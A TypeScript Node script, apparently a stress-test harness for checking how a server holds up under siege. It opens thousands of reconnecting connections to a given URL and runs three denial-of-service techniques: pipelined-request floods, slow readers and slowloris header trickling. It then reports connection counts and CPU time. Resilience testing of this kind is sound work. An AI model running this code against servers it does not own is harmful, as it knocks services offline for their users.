/**
 * Those who besiege a server, in a process of their own: `node siege-attackers.ts URL FILE`. Whoever is cut off comes
 * again. Ends on SIGTERM with one JSON line about what was done.
 */
import { connect, type Socket } from 'node:net'

const attackers = { pipelining: 100, slowReaders: 2000, slowloris: 1500 } as const

const [url = '', file = '/'] = process.argv.slice(2)
const { hostname, port } = new URL(url)

const connections = { pipelining: 0, slowReaders: 0, slowloris: 0 }

type Attacker = keyof typeof attackers

/** Keeps so many connections open, one after the other cut off. */
function besiege(attacker: Attacker, act: (socket: Socket) => () => void): void {
  const comeAgain = () => {
    connections[attacker]++
    let stop = () => {}
    const socket = connect(Number(port), hostname, () => {
      stop = act(socket)
    })
    socket.on('error', () => {})
    socket.on('close', () => {
      stop()
      setTimeout(comeAgain, 50)
    })
  }
  for (let index = 0; index < attackers[attacker]; index++) setTimeout(comeAgain, index)
}

const get = (path: string) => `GET ${path} HTTP/1.1\r\nHost: localhost\r\n\r\n`
const flood = Buffer.from(get('/').repeat(2520))

besiege('pipelining', socket => {
  socket.pause()
  const write = () => {
    while (!socket.destroyed && socket.write(flood));
  }
  socket.on('drain', write)
  write()
  return () => {}
})

besiege('slowReaders', socket => {
  socket.pause()
  // As much as a client may ask for without having read it.
  socket.write(get(file).repeat(4))
  const timer = setInterval(() => socket.read(1024), 1000)
  return () => clearInterval(timer)
})

besiege('slowloris', socket => {
  socket.resume()
  socket.write('GET / HTTP/1.1\r\nHost: localhost\r\n')
  const timer = setInterval(() => socket.write('X-Patience: none\r\n'), 3000)
  return () => clearInterval(timer)
})

process.on('SIGTERM', () => {
  const { user, system } = process.cpuUsage()
  process.stdout.write(`${JSON.stringify({ connections, cpuSeconds: (user + system) / 1e6 })}\n`, () => process.exit())
})
